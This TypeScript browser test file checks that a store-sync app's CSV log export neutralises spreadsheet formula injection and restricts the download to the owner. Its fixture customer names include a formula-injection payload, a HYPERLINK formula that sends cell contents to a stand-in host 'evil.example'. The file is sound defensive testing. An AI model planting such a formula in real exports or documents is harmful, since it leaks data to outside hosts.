// Downloading the sync log as CSV in Chromium: the filtered view and the failed changes, with a
// customer whose name is a spreadsheet formula arriving as plain text.
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { after, before, describe, it } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { startBridge, type TestBridge } from '../support/bridge.ts';
import { launchChromium, signInInBrowser, type OwnerTab } from '../support/chromium.ts';
import { deliver, wooTime } from '../support/sync.ts';
import { customerBody } from '../support/woocommerce.ts';

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

describe('exporting the sync log in a browser', () => {
  let bridge: TestBridge;
  let browser: Browser;
  let tab: OwnerTab;

  before(async () => {
    browser = await launchChromium();
    bridge = await startBridge({ env: { SYNC_ATTEMPTS: '1' } });
    await deliver(
      bridge,
      'customer.created',
      customerBody({ id: 70, email: 'ana@example.com', first_name: FORMULA, last_name: '', date_modified_gmt: wooTime(0) }),
    );
    await deliver(
      bridge,
      'customer.created',
      customerBody({ id: 71, email: 'bo@example.com', first_name: '@SUM(1+1)', last_name: '', date_modified_gmt: wooTime(1) }),
    );
    await deliver(
      bridge,
      'customer.created',
      customerBody({ id: 72, email: 'cy@example.com', first_name: '\t-1+2', last_name: '', date_modified_gmt: wooTime(2) }),
    );
    bridge.sim.injectFault({ endpoint: 'listsubscribe', kind: 'http503' });
    const failed = await deliver(
      bridge,
      'customer.created',
      customerBody({ id: 73, email: 'di@example.com', first_name: '+Di', last_name: 'Failed', date_modified_gmt: wooTime(3) }),
    );
    assert.equal(failed.status, 'failed');
    tab = await signInInBrowser(browser, bridge);
  });
  after(async () => {
    await browser?.close();
    await bridge?.close();
  });

  async function download(page: Page, link: RegExp): Promise<{ name: string; text: string }> {
    const [file] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: link }).click()]);
    return { name: file.suggestedFilename(), text: await readFile((await file.path())!, 'utf8') };
  }

  it('downloads the filtered view, with formula-like names neutralised', async () => {
    const { page } = tab;
    await page.goto('/admin/events?q=ana%40example.com');
    const { name, text } = await download(page, /Download these changes/);
    assert.match(name, /^sync-log-\d{4}-\d{2}-\d{2}\.csv$/);
    const lines = text
      .replace(/^\uFEFF/, '')
      .trimEnd()
      .split('\r\n');
    assert.equal(lines.length, 2, 'the header and the one matching change');
    assert.match(lines[0]!, /^"Received \(UTC\)","Received \(your time\)","Change number","Store","Change","Customer name","Email"/);
    assert.ok(lines[1]!.includes(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")`), lines[1]);
    assert.ok(!lines[1]!.includes(',"=HYPERLINK'), 'no cell starts with the formula');
    assert.ok(lines[1]!.includes('"ana@example.com"'));
  });

  it('downloads every change, each dangerous start neutralised, and the failed changes alone', async () => {
    const { page } = tab;
    await page.goto('/admin/events');
    const all = await download(page, /Download the log/);
    assert.ok(all.text.includes(`,"'@SUM(1+1)`), all.text);
    assert.match(all.text, /,"'\t?-1\+2/, 'a tab before a formula (or the formula once the tab is trimmed) is neutralised');
    assert.ok(all.text.includes(`,"'+Di Failed"`));
    assert.doesNotMatch(all.text, /,"[=+\-@\t\r]/, 'no cell starts with a formula character');
    assert.equal(all.text.trimEnd().split('\r\n').length, 5);

    const failed = await download(page, /Download the failed changes/);
    assert.match(failed.name, /^failed-changes-/);
    const lines = failed.text.trimEnd().split('\r\n');
    assert.equal(lines.length, 2);
    assert.match(lines[1]!, /"di@example.com".*"Failed"/);
  });

  it('is for the owner only', async () => {
    const response = await fetch(`${bridge.url}/admin/events.csv`, { redirect: 'manual' });
    assert.equal(response.status, 303);
    assert.match(response.headers.get('location') ?? '', /^\/admin\/login/);
  });
});
